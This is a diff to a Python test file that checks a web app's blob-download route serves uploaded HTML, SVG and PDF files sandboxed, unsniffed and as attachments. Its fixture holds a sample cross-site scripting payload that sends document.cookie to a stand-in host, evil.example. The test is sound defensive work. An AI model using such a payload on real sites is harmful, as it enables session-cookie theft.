@@ -77,23 +77,52 @@ def test_sign_url_errors(client):
     assert no_url.status_code == 400
 
 
-def test_blob_link_cannot_run_a_stored_page_in_our_origin(client, monkeypatch):
-    """Anyone can put an HTML (or SVG) blob in their own container and send its link to a victim: the page must
-    come back sandboxed and unsniffed, or its script would run beside the app and read the session cookie."""
+class FakeDownload:
+    """What signing.open_blob_link hands the route: an open upstream response."""
+
+    def __init__(self, content_type: str, body: bytes, filename: str):
+        self.status_code, self.content_type, self.content_length = 200, content_type, str(len(body))
+        self.filename, self.body, self.closed = filename, body, False
+
+    async def chunks(self):
+        yield self.body
+
+    async def aclose(self):
+        self.closed = True
+
+
+@pytest.mark.parametrize(
+    ("content_type", "filename", "inline"),
+    [
+        ("text/html", "page.html", False),
+        ("image/svg+xml", "drawing.svg", False),
+        ("application/pdf", "report.pdf", False),
+        ("image/png", "plot.png", True),
+        ("video/mp4", "run.mp4", True),
+    ],
+)
+def test_blob_link_cannot_run_a_stored_page_in_our_origin(client, monkeypatch, content_type, filename, inline):
+    """Anyone can put an HTML (or SVG) blob in their own container and send its link to a victim: the page comes
+    back sandboxed, unsniffed and as a download (pictures, sound and video still open in the browser)."""
     from profile_app.services import signing
 
-    class FakeResponse:
-        def iter_bytes(self):
-            yield b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    page = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    download = FakeDownload(content_type, page, filename)
 
-        def close(self):
-            pass
+    async def fake_open(token):
+        return download
 
-    download = signing.BlobDownload(200, "text/html", "", FakeResponse())
-    monkeypatch.setattr(signing, "open_blob_link", lambda token: download)
+    monkeypatch.setattr(signing, "open_blob_link", fake_open)
     response = client.get("/api/storage.blob", params={"token": "t"})
     assert response.status_code == 200
+    assert response.content == download.body
     assert response.headers["content-security-policy"].split(";")[0].strip() == "sandbox"
     assert response.headers["x-content-type-options"] == "nosniff"
     assert response.headers["referrer-policy"] == "no-referrer"
     assert response.headers["cache-control"] == "private, no-store"
+    disposition = response.headers.get("content-disposition", "")
+    if inline:
+        assert disposition == ""
+    else:
+        assert disposition.startswith(f'attachment; filename="{filename}"')
+    assert download.closed
